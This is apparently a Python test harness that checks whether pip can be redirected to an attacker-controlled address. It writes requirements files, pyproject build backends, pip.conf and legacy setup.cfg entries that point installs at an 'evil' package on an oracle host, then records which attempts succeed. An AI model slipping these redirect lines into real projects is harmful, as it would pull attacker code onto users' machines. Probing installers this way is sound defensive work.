"""Has pip install from files that lead it to an address of the attacker's choice. What arrives there is counted there."""

import json
import os
import pathlib
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor

HERE = pathlib.Path(__file__).parent
TO = json.loads((HERE / "targets.json").read_text())
ORACLE, ADDRESS = TO["oracle"], TO["oracle"].split("//")[1]
FILES = pathlib.Path(os.path.expanduser("~/requirements"))
SAID = FILES / "said"  # setup.py is run more than once

REQUIREMENTS = {
    "index-url": f"--index-url {ORACLE}/index-url/\nattack-nowhere",
    "extra-index-url": f"--extra-index-url {ORACLE}/extra-index-url/\nattack-nowhere",
    # In every other case the environment trusts the address, so that pip does not pass over it for being no https.
    "trusted-host": f"--trusted-host {ADDRESS}\n-i {ORACLE}/trusted-host/\nattack-nowhere",
    "find-links": f"--find-links {ORACLE}/find-links/\nattack-nowhere",
    "editable-git-ssh": f"-e git+ssh://git@{ADDRESS}/editable-git-ssh#egg=evil",
    "git-http": f"git+{ORACLE}/git-http#egg=evil",
    "absolute-url": f"evil @ {ORACLE}/absolute-url/evil-1.0-py3-none-any.whl",
    "plain-url": f"{ORACLE}/plain-url/evil-1.0.tar.gz",
    "nested-requirements": f"-r {ORACLE}/nested-requirements/r.txt",
    "constraints": f"-c {ORACLE}/constraints/c.txt\nattack-nowhere",
    "file-url": f"-r file://{TO['file']}",
}
SETUP = "from setuptools import setup\nsetup(name='evil', version='1', {})\n"
PROJECTS = {
    "build-requires": {"pyproject.toml": f'[build-system]\nrequires = ["evil @ {ORACLE}/build-requires/evil-1-py3-none-any.whl"]'},
    "dependency": {"pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = 'backend'\nbackend-path = ['.']\n",
                   "backend.py": "def prepare_metadata_for_build_wheel(d, c=None):\n    import os\n    os.mkdir(d + '/evil-1.dist-info')\n"
                                 "    with open(d + '/evil-1.dist-info/METADATA', 'w') as f:\n        f.write('Metadata-Version: 2.1\\nName: evil\\n"
                                 f"Version: 1\\nRequires-Dist: more @ {ORACLE}/dependency/more-1-py3-none-any.whl\\n')\n    return 'evil-1.dist-info'\n"
                                 "def build_wheel(*a, **k):\n    raise SystemExit(1)\n"},
}
LEGACY = {
    "easy-install-index": ("setup_requires=['attack-nowhere']", {"setup.cfg": f"[easy_install]\nindex_url = {ORACLE}/easy-install-index/\n"}),
    "pydistutils": ("setup_requires=['attack-nowhere']", {".pydistutils.cfg": f"[easy_install]\nindex_url = {ORACLE}/pydistutils/\n"}),
    "dependency-links": (f"setup_requires=['attack-nowhere'], dependency_links=['{ORACLE}/dependency-links/']", {}),
}
# Stands for ssh, which no image has: it goes where git sends it.
SSH = """import socket, sys
host = next(a for a in sys.argv if "@" in a).split("@")[1]
with socket.create_connection((host, int(sys.argv[sys.argv.index("-p") + 1])), 5) as s:
    s.sendall(b"GET /editable-git-ssh HTTP/1.0\\r\\n\\r\\n")
    s.recv(1)
"""


def write(name, files):
    (FILES / name).mkdir()
    for path, text in files.items():
        (FILES / name / path).write_text(text)
    return FILES / name


def commands():
    pip = [sys.executable, "-m", "pip", "install", "--no-input", "--target", "/tmp/nowhere"]
    for name, text in REQUIREMENTS.items():
        yield name, pip + ["-r", "r.txt"], write(name, {"r.txt": text}), {}
    for name, files in PROJECTS.items():
        yield name, pip + ["."], write(name, files), {}
    yield "pip-conf", pip + ["attack-nowhere"], write("pip-conf", {"pip.conf": f"[global]\nindex-url = {ORACLE}/pip-conf/"}), {"PIP_CONFIG_FILE": "pip.conf"}
    for name, (arguments, files) in LEGACY.items():
        folder = write(name, {"setup.py": SETUP.format(arguments), **files})
        yield name, [sys.executable, "setup.py", "--version"], folder, {"HOME": str(folder)}


def run(command):
    name, argv, folder, settings = command
    env = {**os.environ, "PIP_RETRIES": "0", "PIP_TIMEOUT": "5", "PIP_TRUSTED_HOST": ADDRESS, "GIT_SSH_VARIANT": "ssh",
           "GIT_SSH_COMMAND": f"{sys.executable} {FILES}/ssh.py", **settings}
    if name == "trusted-host":
        del env["PIP_TRUSTED_HOST"]
    done = subprocess.run(argv, cwd=folder, env=env, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    lines = [line.strip() for line in done.stdout.decode(errors="replace").replace("\t", " ").splitlines() if "rror" in line]
    tried = REQUIREMENTS.get(name, " ".join(argv[1:])).replace("\n", " ")
    return "\t".join(["PROBE", name, tried, "refused" if done.returncode else "worked", (lines or [""])[0][:160]])


def main():
    if not SAID.exists():
        FILES.mkdir(parents=True)
        (FILES / "ssh.py").write_text(SSH)
        with ThreadPoolExecutor(3) as pool:
            lines = list(pool.map(run, list(commands())))
        SAID.write_text("\n".join([*lines, f"PROBED\t{len(lines)}", ""]))
    print(SAID.read_text(), flush=True)


main()
